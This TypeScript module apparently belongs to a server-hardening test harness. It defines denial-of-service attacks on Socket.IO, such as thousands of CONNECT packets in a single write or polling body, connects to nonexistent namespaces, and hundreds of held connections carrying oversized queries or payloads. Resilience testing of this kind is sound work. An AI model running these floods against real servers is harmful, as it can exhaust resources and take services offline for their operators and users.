// Owns attacks with Socket.IO's CONNECT packet: each one let in makes a full socket.
import type { Attack } from '../attack.ts';
import type { Ground, Tally } from '../ground.ts';
import { frame, GAME, handshake, http, NEXT, POLLING, post, Wire } from '../wire.ts';

/** As many as fit into one message. */
const AT_ONCE = 2900;
const KEPT = 100;

const limits = (tally: Tally): readonly (readonly [string, number, number])[] => [
  ['sockets made of connections', tally['sockets'] ?? 0, tally['connections made'] ?? 0],
];

/**
 * On each of many connections, in one chunk: a second CONNECT after the first was handled would end the connection.
 */
async function atOnce(ground: Ground, crew: number, packets: readonly string[]): Promise<void> {
  const once = Buffer.concat(
    Array.from({ length: AT_ONCE }, (_, nth) => frame(packets[nth % packets.length] ?? '40')),
  );
  const kept: Wire[] = [];
  await ground.crew(crew, async () => {
    const wire = await Wire.open(ground, 0);
    if (wire === null) return ground.rest(20);
    ground.note('connections made');
    wire.onText = (text) => {
      if (/^40(\/[^,]*,)?\{"sid"/.test(text)) ground.note('sockets');
    };
    wire.write(once);
    ground.note('packets', AT_ONCE);
    await wire.answered();
    kept.push(wire);
    if (kept.length > KEPT) kept.shift()?.end();
  });
}

async function inOneBody(ground: Ground): Promise<void> {
  const sid = await handshake(ground, 0);
  if (sid === null) return ground.rest(20);
  ground.note('connections made');
  const heard = http(ground, 0, `${POLLING}&sid=${sid}`);
  const { status } = await post(ground, 0, sid, Array<string>(AT_ONCE).fill('40').join(NEXT));
  ground.note(`posts answered ${status}`);
  // The answers to the CONNECTs come before the answer to this.
  await post(ground, 0, sid, '421["leave",{"room":"abcdefghijkl"}]');
  for (let answer = await heard; answer.status === 200;) {
    const told = answer.text.split(NEXT);
    ground.note('sockets', told.filter((packet) => packet.startsWith('40{"sid"')).length);
    if (told.some((packet) => packet.startsWith('431') || packet === '1')) return;
    answer = await http(ground, 0, `${POLLING}&sid=${sid}`);
  }
}

/** Connections with as much data as the server accepts. */
const LADEN = 480;

/** So many per address, with this data in their request and in their CONNECT. */
async function laden(ground: Ground, addresses: number, query: string, auth: string): Promise<void> {
  const held: Wire[] = [];
  await Promise.all(
    Array.from({ length: 16 }, async (_, nth) => {
      while (held.length < LADEN * addresses && ground.goesOn()) {
        const wire = await Wire.open(ground, nth % addresses, `${GAME}${query}`);
        if (wire === null) {
          await ground.rest(20);
          continue;
        }
        held.push(wire);
        ground.note('connections made');
        wire.say(`40${auth}`);
        await wire.answered();
      }
    }),
  );
  await ground.stay();
  ground.note('still open', held.filter(({ isOpen }) => isOpen).length);
  for (const wire of held) wire.end();
}

export const connects: readonly Attack[] = [
  {
    name: 'laden-entries',
    does: 'CONNECT with as many small objects as one packet has room for, on all connections of an address',
    addresses: 1,
    steps: 0,
    run: (ground) => laden(ground, 1, '', `{"a":[${Array<string>(2600).fill('{}').join()}]}`),
  },
  {
    name: 'laden-queries',
    does: 'upgrades with a query of thousands of names, on all connections of three addresses',
    addresses: 3,
    steps: 0,
    limits: (tally) => [['connections let in', tally['connections made'] ?? 0, 0]],
    run: (ground) =>
      laden(
        ground,
        3,
        Array.from({ length: 3000 }, (_, nth) => `&${nth.toString(36)}=`)
          .join('')
          .replace('&j=', ''),
        '',
      ),
  },
  {
    name: 'connect-again',
    does: '2,900 CONNECTs in one write, on one websocket after the other',
    addresses: 1,
    steps: 0,
    limits,
    run: (ground) => atOnce(ground, 1, ['40']),
  },
  {
    name: 'connect-in-one-post',
    does: '2,900 CONNECTs in one polling body, one body after the other',
    addresses: 1,
    steps: 0,
    limits,
    run: (ground) => ground.crew(1, () => inOneBody(ground)),
  },
  {
    name: 'connect-elsewhere',
    does: 'CONNECT to namespaces that there are not, with payloads, in one write',
    addresses: 1,
    steps: 0,
    limits,
    run: (ground) =>
      atOnce(
        ground,
        4,
        Array.from({ length: 20 }, (_, nth) => `40/${'n'.repeat(nth)},{"t":"${'x'.repeat(nth)}"}`),
      ),
  },
  {
    name: 'connect-and-leave',
    does: 'CONNECT and DISCONNECT in turn, in one write',
    addresses: 1,
    steps: 0,
    limits,
    run: (ground) => atOnce(ground, 4, ['40', '41']),
  },
  {
    name: 'connect-on-111',
    does: '2,900 CONNECTs in one write on each of 111 websockets at the same time, again and again',
    addresses: 1,
    steps: 0,
    limits,
    run: (ground) => atOnce(ground, 111, ['40']),
  },
];
